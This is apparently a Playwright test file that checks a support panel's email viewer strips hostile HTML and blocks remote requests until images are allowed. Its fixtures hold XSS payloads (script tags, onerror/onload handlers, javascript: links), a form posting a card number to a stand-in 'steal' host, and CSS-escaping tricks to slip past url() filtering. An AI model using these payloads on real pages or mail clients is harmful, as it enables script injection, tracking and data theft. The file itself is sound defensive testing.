import { test, expect } from '../support/fixtures.ts';
import { acceptedEmail, availableOnEmail } from './support.ts';

// Hostile HTML (email §2, GUIDE security): whatever a customer's email holds, nothing in it runs and nothing
// leaves the page, until the agent chooses to load remote images (and then only those).

const HOSTILE = `
<p>Dear agent</p>
<script>parent.__pwned = 'script'</script>
<img src="x" onerror="parent.__pwned = 'onerror'">
<a href="javascript:parent.__pwned = 'link'">Click me</a>
<a href="https://example.com/help">Help page</a>
<svg onload="parent.__pwned = 'svg'"><script>parent.__pwned = 'svg-script'</script><image href="https://tracker.invalid/svg.png"/></svg>
<form action="https://tracker.invalid/steal" method="post"><input name="card" value="4111"><button>Claim prize</button></form>
<img src="https://tracker.invalid/pixel.png" alt="Logo">
<div style="background-image: url(https://tracker.invalid/bg.png)">Styled</div>
<style>@import url(https://tracker.invalid/import.css); body { background: url(https://tracker.invalid/body.png) }</style>
<link rel="stylesheet" href="https://tracker.invalid/link.css">
<iframe src="https://tracker.invalid/frame"></iframe>
<object data="https://tracker.invalid/object"></object>
<meta http-equiv="refresh" content="0;url=https://tracker.invalid/refresh">
<base href="https://tracker.invalid/">
<video poster="https://tracker.invalid/poster.png"></video>
<img srcset="https://tracker.invalid/srcset.png 2x">
<div onmouseover="parent.__pwned = 'mouseover'">Hover me</div>
`;

test('a hostile HTML email runs nothing and reaches out to nothing until images are allowed', async ({ page, panel, api }) => {
  const requests: string[] = [];
  await page.context().route('https://tracker.invalid/**', (route) => {
    requests.push(new URL(route.request().url()).pathname);
    return route.fulfill({ status: 200, contentType: 'image/png', body: Buffer.alloc(0) });
  });
  await availableOnEmail(page, panel.url);
  await acceptedEmail(page, api, { subject: 'You won', html: HOSTILE });

  const frame = page.frameLocator('iframe[title="Email message: You won"]');
  await expect(frame.getByText('Dear agent')).toBeVisible();
  await frame.getByText('Hover me').hover();
  // Without its javascript: href the anchor is no link any more; clicking it does nothing.
  await frame.getByText('Click me').click();
  await page.waitForTimeout(500);

  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  const iframe = page.locator('iframe[title="Email message: You won"]');
  await expect(iframe).toHaveAttribute('sandbox', /^(?!.*allow-scripts)/);
  const inside = await iframe.evaluate((el: HTMLIFrameElement) => {
    const d = el.contentDocument!;
    return {
      scripts: d.querySelectorAll('script').length,
      handlers: [...d.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
      forms: d.querySelectorAll('form, input, button').length,
      svg: d.querySelectorAll('svg').length,
      frames: d.querySelectorAll('iframe, object, embed').length,
      links: [...d.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href'), a.getAttribute('rel'), a.getAttribute('target')]),
      styles: d.querySelectorAll('body style, link').length,
    };
  });
  expect(inside).toEqual({
    scripts: 0,
    handlers: [],
    forms: 0,
    svg: 0,
    frames: 0,
    links: [
      ['Click me', null, null, null],
      ['Help page', 'https://example.com/help', 'noopener noreferrer nofollow', '_blank'],
    ],
    styles: 0,
  });
  expect(requests).toEqual([]);

  // The agent chooses to see the images: only the image loads; CSS, frames and forms still reach nothing.
  await expect(page.getByText('1 remote image was blocked to protect your privacy.')).toBeVisible();
  await page.getByRole('button', { name: 'Load images' }).click();
  await expect.poll(() => requests).toEqual(['/pixel.png']);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
});

test('CSS-escaped url() in a style reaches out to nothing, and allowed images load without a Referer', async ({ page, panel, api }) => {
  const requests: { path: string; referer: string | undefined }[] = [];
  await page.context().route('https://tracker.invalid/**', async (route) => {
    requests.push({ path: new URL(route.request().url()).pathname, referer: (await route.request().allHeaders()).referer });
    return route.fulfill({ status: 200, contentType: 'image/png', body: Buffer.alloc(0) });
  });
  await availableOnEmail(page, panel.url);
  await acceptedEmail(page, api, {
    subject: 'Escaped',
    html: `<p>Escaped styles</p>
<div style="background: u\\72l(https://tracker.invalid/escaped-hex.png)">One</div>
<div style="background: \\75 rl(https://tracker.invalid/escaped-space.png)">Two</div>
<div style="background: &#117;rl(https://tracker.invalid/entity.png)">Three</div>
<div style="background-image: \\69mage-set('https://tracker.invalid/image-set.png' 1x)">Four</div>
<img src="https://tracker.invalid/pixel.png" alt="Logo">`,
  });
  const frame = page.frameLocator('iframe[title="Email message: Escaped"]');
  await expect(frame.getByText('Escaped styles')).toBeVisible();
  await page.getByRole('button', { name: 'Load images' }).click();
  await expect.poll(() => requests.map((r) => r.path)).toContain('/pixel.png');
  // The styles stay dropped once images are allowed: only the image loads, and it says nothing of the panel.
  await expect(frame.getByText('Four')).toBeVisible();
  expect(requests).toEqual([{ path: '/pixel.png', referer: undefined }]);
});
